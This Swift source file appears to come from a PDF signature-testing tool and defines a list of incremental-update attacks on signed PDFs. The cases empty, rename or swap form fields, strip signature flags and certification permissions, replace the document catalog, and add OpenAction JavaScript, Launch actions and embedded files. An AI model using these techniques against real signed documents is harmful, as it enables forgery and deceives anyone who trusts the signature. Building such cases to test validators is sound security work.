// PDFAttack+form.swift
internal import AntinPDF

// The form, the catalog and what hangs on them: removed, exchanged, or made to act.

extension PDFAttack {
    private static func form(
        _ name: String, _ values: [(String, String)], removing: Set<String> = []
    ) -> PDFAttack {
        self.update("form." + name, .shadow, .structure) { update, victim in
            try update.setForm(victim, values, removing: removing)
        }
    }

    private static func field(
        _ name: String, _ values: [(String, String)], removing: Set<String> = []
    ) -> PDFAttack {
        self.update("field." + name, .spoofing, .structure) { update, victim in
            try update.setField(victim, values, removing: removing)
        }
    }

    private static func catalog(
        _ name: String, _ values: [(String, String)], removing: Set<String> = []
    ) -> PDFAttack {
        self.update("catalog." + name, .shadow, .structure) { update, victim in
            let old = try victim.catalog
            guard !values.isEmpty || removing.contains(where: { old[$0] != nil }) else {
                return false
            }
            try update.setCatalog(victim, values, removing: removing)
            return true
        }
    }

    static let forms: [PDFAttack] = [
        form("emptied", [("Fields", "[]")]),
        form("noFields", [], removing: ["Fields"]),
        form("flagsCleared", [("SigFlags", "0")]),
        form("flagsGone", [], removing: ["SigFlags"]),
        form("needAppearances", [("NeedAppearances", "true")]),
        form("xfa", [("XFA", "(<xdp/>)")]),
        form("calculation", [("CO", "[1 0 R]")]),
        form("fieldsTwice", [("Fields", "[]/Fields[]")]),
        form("fieldsNull", [("Fields", "null")]),
        form("fieldsCycle", [("Fields", "[<</Kids[1 0 R]>>]")]),
        update("form.swapped", .shadow, .structure) { update, victim in
            update.add(victim.next, "<</Fields[]/SigFlags 3>>")
            try update.setCatalog(victim, [("AcroForm", "\(victim.next) 0 R")])
            return true
        },
        update("form.textField", .shadow) { update, victim in
            update.addCover(victim.next)
            return try update.addField(
                victim.next + 1, victim,
                "/FT/Tx/T(Them)/V(VAN BAN GIA)\(PDFUpdate.wholePage)/AP<</N \(victim.next) 0 R>>")
        },
        update("form.button", .shadow) { update, victim in
            try update.addField(
                victim.next, victim,
                "/FT/Btn/Ff 65536/T(Nut)\(PDFUpdate.wholePage)/A<</S/JavaScript/JS(1)>>")
        },
        field("renamed", [("T", "(Ten khac)")]),
        field("noName", [], removing: ["T"]),
        field("nameTwice", [("T", "(Ten khac)/T(Signature1)")]),
        field("valueRemoved", [], removing: ["V"]),
        field("valueNull", [("V", "null")]),
        field("valueOther", [("V", "1 0 R")]),
        field("typeChanged", [("FT", "/Tx")]),
        field("typeGone", [], removing: ["FT"]),
        field("typeTwice", [("FT", "/Tx/FT/Sig")]),
        field("lock", [("Lock", "<</Action/Include/Fields[]>>")]),
        field("seed", [("SV", "<</Ff 0>>")]),
        field("kid", [("Kids", "[1 0 R]")]),
        update("field.parent", .spoofing, .structure) { update, victim in
            // The field gets another full name by being hung under a new one.
            guard let reference = victim.signature?.fieldReference else { return false }
            update.add(victim.next, "<</T(Cha)/Kids[\(reference)]>>")
            let isSet = try update.setField(victim, [("Parent", "\(victim.next) 0 R")])
            return try isSet
                && update.setForm(victim, [("Fields", "[\(victim.next) 0 R]")])
        },
        update("field.freed", .spoofing, .structure) { update, victim in
            guard let reference = victim.signature?.fieldReference else { return false }
            update.freed = [reference.number]
            return true
        },
    ]

    static let catalogs: [PDFAttack] = [
        catalog("noForm", [], removing: ["AcroForm"]),
        catalog("formNull", [("AcroForm", "null")]),
        catalog("noPages", [], removing: ["Pages"]),
        catalog("openAction", [("OpenAction", "<</S/JavaScript/JS(app.alert\\(1\\))>>")]),
        catalog("launch", [("OpenAction", "<</S/Launch/F(x)>>")]),
        catalog("actions", [("AA", "<</WC<</S/JavaScript/JS(1)>>>>")]),
        catalog("scripts", [("Names", "<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>")]),
        catalog("attachment", [("Names", "<</EmbeddedFiles<</Names[(a)<</F(a)>>]>>>>")]),
        catalog("collection", [("Collection", "<</View/T>>")]),
        catalog("outlines", [("Outlines", "<</Type/Outlines/Count 0>>")]),
        catalog("pageLabels", [("PageLabels", "<</Nums[0<</S/r>>]>>")]),
        catalog("language", [("Lang", "(en)")]),
        catalog("structure", [("StructTreeRoot", "<</Type/StructTreeRoot>>")]),
        catalog("threads", [("Threads", "[]/Threads[1 0 R]")]),
        catalog("base", [("URI", "<</Base(http://example.invalid/)>>")]),
        catalog("requirements", [("Requirements", "[<</Type/Requirement/S/EnableJavaScripts>>]")]),
        catalog("pagesTwice", [("Pages", "1 0 R/Pages 2 0 R")]),
        catalog("certified", [("Perms", "<</DocMDP 1 0 R>>")]),
        catalog("permsRemoved", [], removing: ["Perms"]),
        catalog("storeWithScript", [("DSS", "<</Type/DSS/AA<</O<</S/JavaScript/JS(1)>>>>>>")]),
        catalog("storeRemoved", [], removing: ["DSS"]),
        update("catalog.swapped", .shadow) { update, victim in
            update.root = "\(victim.next) 0 R"
            update.add(victim.next, PDFSpelling.text(try victim.catalog))
            return true
        },
        update("catalog.replaced", .shadow, .structure) { update, victim in
            let next = victim.next
            update.root = "\(next) 0 R"
            update.add(next, "<</Type/Catalog/Pages \(next + 1) 0 R>>")
            update.add(next + 1, "<</Type/Pages/Kids[\(next + 2) 0 R]/Count 1>>")
            update.add(next + 2, "<</Type/Page/Parent \(next + 1) 0 R/MediaBox[0 0 595 842]>>")
            return true
        },
    ]
}
